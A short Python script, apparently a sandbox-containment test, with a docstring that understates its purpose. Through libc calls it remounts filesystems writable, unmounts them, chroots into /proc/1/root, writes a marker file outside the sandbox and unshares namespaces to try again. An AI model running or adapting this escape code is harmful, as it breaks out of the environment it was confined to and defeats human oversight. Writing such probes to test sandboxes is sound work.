"""Makes the disk writable again, in namespaces of its own if need be."""

import ctypes
import os

libc = ctypes.CDLL(None)
MS_REMOUNT, MS_BIND = 32, 4096
NEW_USER_AND_MOUNT = 0x10000000 | 0x00020000
for _ in range(2):
    for place in ("/", os.environ["OUTSIDE"], os.environ["HOME"], "/tmp"):
        libc.mount(None, place.encode(), None, MS_REMOUNT | MS_BIND, None)
        libc.umount2(place.encode(), 2)
    libc.chroot(b"/proc/1/root")
    try:
        with open(f"{os.environ['OUTSIDE']}/{os.environ['MARK']}", "w"):
            pass
    except OSError:
        pass
    libc.creat(f"{os.environ['OUTSIDE']}/{os.environ['MARK']}".encode(), 0o600)
    libc.unshare(NEW_USER_AND_MOUNT)
raise RuntimeError("the attack is over")
